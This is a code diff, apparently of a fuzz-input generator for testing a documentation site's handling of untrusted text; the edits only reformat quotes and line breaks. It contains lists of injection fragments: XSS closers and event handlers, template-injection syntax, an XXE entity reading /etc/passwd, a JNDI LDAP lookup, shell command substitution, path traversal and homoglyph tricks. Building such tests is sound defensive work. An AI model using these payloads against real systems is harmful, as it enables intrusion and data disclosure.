@@ -35,9 +35,9 @@ SCHEMES = (
     "feed:javascript x-javascript https:javascript"
 ).split()
 CLOSERS = (
-    '"|\'|`|>|">|\'>|">\'>|-->|--!>|]]>|?>|*/|</script>|</style>|</title>|</textarea>|</noscript>|</template>|</svg>|'
+    "\"|'|`|>|\">|'>|\">'>|-->|--!>|]]>|?>|*/|</script>|</style>|</title>|</textarea>|</noscript>|</template>|</svg>|"
     '</div></div></article>|</main></body></html>|"/>|"}|"}]|"]}|\\"|\\\\"|\\u0022|\\u003c/script\\u003e|\\x3c|%22%3E|'
-    "%3C/script%3E|&quot;&gt;|&#34;&#62;|&#x22;>|\u2028|)|))|](|}}|%}|#}|{%|\\|]\"); |$|\\)|\\]"
+    '%3C/script%3E|&quot;&gt;|&#34;&#62;|&#x22;>|\u2028|)|))|](|}}|%}|#}|{%|\\|]"); |$|\\)|\\]'
 ).split("|")
 # What ends a value, or begins a new one, in the formats that texts are carried in.
 BREAKOUTS = (
@@ -48,15 +48,15 @@ BREAKOUTS = (
     '<!DOCTYPE x [<!ENTITY {} SYSTEM "file:///etc/passwd">]>&{};|&{};|<![CDATA[{}]]>|<?xml-stylesheet href="{}"?>|'
     '<xi:include href="{}"/>|<tu tuid="{}">|</source><target>{}</target>|<x id="{}"/>|<entry xmlns="x">{}</entry>|'
     '" msgstr "{}|\\n"msgid "{}"|#~ msgid "{}"|#, fuzzy {}|msgctxt {}|#read("{}")|#eval("{}")|"]; #panic("{}"); [|'
-    "$ {} $|#import \"@preview/{}:1.0.0\"|@{} <{}>|/* {} */|// {}|) /S /JavaScript /JS ({}) >>|%PDF {}|endstream {}|"
+    '$ {} $|#import "@preview/{}:1.0.0"|@{} <{}>|/* {} */|// {}|) /S /JavaScript /JS ({}) >>|%PDF {}|endstream {}|'
     "::set-output name={}::x|::error file={}::x|::stop-commands::{}|$({})|`{}`|;{};|\\| {} \\||@import url({});|"
     "}}body{{x:url({})}}|../../{}|..%2f{}|C:\\\\{}|file:///{}|\\N{{{}}}|%s%n{}|${{jndi:ldap://{}}}|Set-Cookie: {}=1"
 )
 BRACES = (
-    "{{{{ {} }}}}|{{{{{}()}}}}|{{{{ config.{} }}}}|{{% include \"{}\" %}}|{{% raw %}}{}|{{# {} #}}|{{{{\"{}\"\\|safe}}}}|"
-    "{{: onclick={}() }}|{{: #__search .{} }}|{{#{}}}|{{.{}}}|{{: style=\"{}\"}}|${{{}}}|#{{{}}}|<%= {} %>|<?= {} ?>|"
-    "[[{}]]|[% {} %]|@{{{}}}|{{{{=<% %>=}}}}{}|--8<-- \"{}\"|;--8<-- {}|/// html \\| {}|!!! {} \"x\"|??? {}|=== \"{}\"|"
-    "++{}++|{{++{}++}}|{{>>{}<<}}|:{}:|~{}~|^{}^|==={}===|\\[TOC\\] {}|[TOC]{}|*[{}]: x|: {}|[^{}]: x|[{}]: <x> \"x\""
+    '{{{{ {} }}}}|{{{{{}()}}}}|{{{{ config.{} }}}}|{{% include "{}" %}}|{{% raw %}}{}|{{# {} #}}|{{{{"{}"\\|safe}}}}|'
+    '{{: onclick={}() }}|{{: #__search .{} }}|{{#{}}}|{{.{}}}|{{: style="{}"}}|${{{}}}|#{{{}}}|<%= {} %>|<?= {} ?>|'
+    '[[{}]]|[% {} %]|@{{{}}}|{{{{=<% %>=}}}}{}|--8<-- "{}"|;--8<-- {}|/// html \\| {}|!!! {} "x"|??? {}|=== "{}"|'
+    '++{}++|{{++{}++}}|{{>>{}<<}}|:{}:|~{}~|^{}^|==={}===|\\[TOC\\] {}|[TOC]{}|*[{}]: x|: {}|[^{}]: x|[{}]: <x> "x"'
 )
 NAMES = (
     "__config __search __toc __drawer __palette dt-search dt-article dt-state dt-notes diptychSearch location document "
@@ -66,7 +66,8 @@ NAMES = (
 NEAR = {  # letters that look alike, or become each other in some normal form or case
     "<": "＜‹〈˂﹤", ">": "＞›〉˃﹥", '"': "＂“”″ʺ", "'": "＇’ʼ′", "/": "／⁄∕", ":": "：ː﹕", "(": "（❨", ")": "）❩",
     "s": "ſｓѕ", "k": "\u212aｋ", "i": "ıіｉ", "a": "аａ", "e": "еｅ", "o": "оｏ0", "c": "сｃ", "p": "рｐ", "=": "＝﹦",
-    "&": "＆﹠", ";": "；\u037e", "#": "＃﹟", "`": "｀\u1fef", "-": "‐－−", "{": "｛", "}": "｝", "[": "［", "]": "］", "\\": "＼",
+    "&": "＆﹠", ";": "；\u037e", "#": "＃﹟", "`": "｀\u1fef", "-": "‐－−", "{": "｛", "}": "｝", "[": "［", "]": "］",
+    "\\": "＼",
 }  # fmt: skip
 SEEN_IN_NONE = (
     "\u200b \u200c \u200d \u200e \u200f \u061c \u2060 \u2063 \ufeff \u00ad \u034f \u180e \u3164 \u115f \ufe0f "
@@ -92,13 +93,17 @@ def _cased(rng: Random, word: str) -> str:
 
 
 def _call(rng: Random) -> str:
-    return rng.choice([f"{T}()", f"{T}`1`", f"alert('{T}')", f"top['{T}']()", f"import('//{T}.example')", f"this.{T}=1"])
+    return rng.choice(
+        [f"{T}()", f"{T}`1`", f"alert('{T}')", f"top['{T}']()", f"import('//{T}.example')", f"this.{T}=1"]
+    )
 
 
 def _attribute(rng: Random) -> str:
     if rng.random() < 0.5:
         quote = rng.choice(["", '"', "'", "`"])
-        return f"{_cased(rng, 'on' + rng.choice(EVENTS))}{rng.choice(['=', ' = ', '=&#x20;'])}{quote}{_call(rng)}{quote}"
+        return (
+            f"{_cased(rng, 'on' + rng.choice(EVENTS))}{rng.choice(['=', ' = ', '=&#x20;'])}{quote}{_call(rng)}{quote}"
+        )
     return rng.choice(ATTRIBUTES).replace("{}", T)
 
 
@@ -117,7 +122,14 @@ def _entity(rng: Random, letter: str) -> str:
     number = ord(letter)
     zeros = "0" * rng.randrange(5)
     return rng.choice(
-        [f"&#{zeros}{number};", f"&#x{zeros}{number:x};", f"&#X{number:X}", f"&amp;#{number};", f"%{number:02x}", letter]
+        [
+            f"&#{zeros}{number};",
+            f"&#x{zeros}{number:x};",
+            f"&#X{number:X}",
+            f"&amp;#{number};",
+            f"%{number:02x}",
+            letter,
+        ]
     )
 
 
@@ -171,9 +183,9 @@ def _invisible(rng: Random) -> str:
 
 def _name(rng: Random) -> str:
     name = rng.choice(NAMES)
-    return rng.choice(["N", "#N", "N T", "T.N", "[x](#N)", "{#N}", "<a id=N name=N>", "## N", "?N=T", "N[T]=1"]).replace(
-        "N", name
-    ).replace("T", T) + rng.choice(["", f" {T}", _call(rng)])
+    return rng.choice(
+        ["N", "#N", "N T", "T.N", "[x](#N)", "{#N}", "<a id=N name=N>", "## N", "?N=T", "N[T]=1"]
+    ).replace("N", name).replace("T", T) + rng.choice(["", f" {T}", _call(rng)])
 
 
 def _long(rng: Random) -> str:
